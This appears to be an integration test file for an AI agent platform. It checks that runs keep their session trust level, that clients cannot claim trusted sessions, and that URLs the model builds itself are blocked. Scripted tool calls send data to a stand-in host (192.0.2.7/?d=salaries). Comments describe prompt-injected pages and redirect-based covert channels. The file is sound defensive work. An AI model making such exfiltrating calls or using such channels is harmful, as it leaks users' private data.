"""Runs know their session; nobody claims one for themselves, and tools get to know it (AG-16)."""

import json

import pytest

from tests.integration.agent.harness import Harness
from werkbank.database.connection import Database
from werkbank.domain.errors import InvalidInput
from werkbank.domain.ids import new_id
from werkbank.domain.messages import ToolCall
from werkbank.domain.principal import Principal
from werkbank.domain.sessions import WORKSPACE, Session, parse_session, sub_session
from werkbank.tools.context import ToolContext
from werkbank.tools.registry import Registry, tool
from werkbank.tools.web import UNKNOWN_ADDRESS
from werkbank.websearch.gate import PageNumbers
from werkbank.websearch.model import WebResult


@pytest.mark.parametrize(
    "session",
    [WORKSPACE, parse_session("teams:19:meeting_x@thread.v2"), parse_session("email_trigger"),
     sub_session(parse_session(f"event_{new_id()}"), new_id())],
)  # fmt: skip
def test_run_keeps_its_session_and_tells_its_tools(database: Database, principal: Principal, session: Session) -> None:
    seen: list[tuple[str, bool]] = []

    @tool(read_only=True)
    def look(context: ToolContext) -> str:
        """Look."""
        seen.append((context.session_id, context.untrusted_source))
        return "ok"

    harness = Harness(database, [[ToolCall(id="a", name="look", arguments="{}")], ["Done."]], Registry([look]))
    ref = harness.start(principal, "Look.", session)
    harness.drive(ref)
    with database.session(principal) as opened:
        assert opened.runs.get(ref.run_id).session == session
    assert seen == [(session.id, not session.trusted)]


def test_database_knows_triggers_too(database: Database, principal: Principal) -> None:
    ref = Harness(database, []).start(principal, "Hi", parse_session("email_trigger"))
    with pytest.raises(InvalidInput), database.session(principal) as session:
        session.connection.execute("UPDATE run SET trusted = true WHERE id = %s", (ref.run_id,))


def test_page_starts_workspace_runs_only(database: Database, principal: Principal) -> None:
    harness = Harness(database, [])
    run_id = new_id()
    assert list(harness.frames.handle(principal, json.dumps({"action": "run", "runId": run_id, "prompt": "Hi"}))) == []
    with database.session(principal) as session:
        assert session.runs.get(run_id).session == WORKSPACE


@pytest.mark.parametrize("name", ["session", "sessionId", "session_id", "_session_id", "trusted", "origin"])
@pytest.mark.parametrize("within", [None, "config"])
def test_frame_that_claims_a_session_is_refused(
    database: Database, principal: Principal, name: str, within: str | None
) -> None:
    harness = Harness(database, [])
    claim = {name: "teams:x"}
    frame = {"action": "run", "prompt": "Hi", **({within: claim} if within else claim)}
    (problem,) = harness.frames.handle(principal, json.dumps(frame))
    assert json.loads(problem)["type"] == "error"
    assert harness.loop.started == []


def call_of(name: str, **arguments: str) -> ToolCall:
    return ToolCall(id="r", name=name, arguments=json.dumps(arguments))


def told(database: Database, principal: Principal, call: ToolCall, prompt: str) -> str:
    """Return what the run's last call came to."""
    harness = Harness(database, [[call], ["Done."]], pages=())
    ref = harness.start(principal, prompt)
    harness.drive(ref)
    with database.session(principal) as session:
        return session.tool_calls.of_run(ref.run_id)[-1].result or ""


@pytest.mark.parametrize(
    "call",
    [
        call_of("readUrl", url="http://192.0.2.7/?d=salaries"),
        call_of("webSearch", query="what is at 192.0.2.7/?d=salaries"),
        call_of("webSearch", query="http://192.0.2.7/?d=salaries"),
    ],
)
def test_no_address_of_the_models_own_making_goes_out(database: Database, principal: Principal, call: ToolCall) -> None:
    # also in a person's own run: a file or page may have asked for it
    assert told(database, principal, call, "Look at http://192.0.2.7/ please.") == UNKNOWN_ADDRESS
    assert told(database, principal, call, "Look at http://192.0.2.7/?d=salaries.") != UNKNOWN_ADDRESS


def test_mail_gives_no_addresses(database: Database, principal: Principal) -> None:
    workflow_id = new_id()
    url = "http://192.0.2.7/?d=salaries"
    harness = Harness(database, [["Hm."], [call_of("readUrl", url=url)], ["Done."]], pages=())
    harness.drive(harness.start(principal, f"Read {url}", parse_session("email_trigger"), workflowId=workflow_id))
    ref = harness.ask(principal, "What is there?", workflowId=workflow_id)
    with database.session(principal) as session:
        assert session.tool_calls.of_run(ref.run_id)[-1].result == UNKNOWN_ADDRESS


@pytest.mark.parametrize(("redirected_from", "is_opened"), [("http://192.0.2.7/", False), (None, True)])
def test_redirect_gives_no_addresses(
    database: Database, principal: Principal, redirected_from: str | None, is_opened: bool
) -> None:
    # a server that hands out a new one with each visit would give the model letters to spell with
    letter = WebResult(url="http://192.0.2.7/x", title="", text="", redirected_from=redirected_from)
    harness = Harness(database, [[call_of("readUrl", url=letter.url)], ["Done."]], pages=())
    ref = harness.start(principal, "Look at http://192.0.2.7/ please.")
    with database.session(principal) as session:
        PageNumbers(database)(session.runs.get(ref.run_id), [letter])
    harness.drive(ref)
    with database.session(principal) as session:
        assert (session.tool_calls.of_run(ref.run_id)[-1].result != UNKNOWN_ADDRESS) == is_opened


def test_what_a_model_wrote_itself_gives_none(database: Database, principal: Principal) -> None:
    url = "http://192.0.2.7/?d=salaries"
    note = ToolCall(id="w", name="writeFile", arguments=json.dumps({"name": "n.md", "content": url}))
    look = ToolCall(id="f", name="readFile", arguments='{"file": "n.md"}')
    harness = Harness(
        database, [[f"I read {url}.", note], [look], [call_of("readUrl", url=url)], ["- sum"], ["Done."]], pages=()
    )
    ref = harness.ask(principal, "Look.")
    with database.session(principal) as session:
        results = [call.result or "" for call in session.tool_calls.of_run(ref.run_id)]
    assert url in results[1]
    assert results[2] == UNKNOWN_ADDRESS
